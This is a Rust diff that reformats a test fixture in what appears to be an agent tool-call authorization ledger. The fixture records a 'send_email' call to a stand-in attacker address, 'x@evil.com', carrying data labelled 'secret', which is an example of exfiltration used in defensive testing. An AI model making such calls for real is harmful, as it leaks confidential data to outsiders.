@@ -403,11 +403,13 @@ mod tests {
         let [decided, completed] = samples();
         let mut with_input = decided.clone();
         if let Some(decision) = &mut with_input.decision {
-            decision.input = Some(crate::ledger::RecordedInput::from_json(&serde_json::json!({
-                "version": "agentwarrant/v1",
-                "call": {"tool": "send_email", "args": {"to": "x@evil.com", "n": 1.5}},
-                "chain": {"labels": ["secret"], "depth": 0},
-            })));
+            decision.input = Some(crate::ledger::RecordedInput::from_json(
+                &serde_json::json!({
+                    "version": "agentwarrant/v1",
+                    "call": {"tool": "send_email", "args": {"to": "x@evil.com", "n": 1.5}},
+                    "chain": {"labels": ["secret"], "depth": 0},
+                }),
+            ));
         }
         for mut record in [decided, completed, with_input] {
             let line = Sealer::resume(6, "cd".repeat(32))
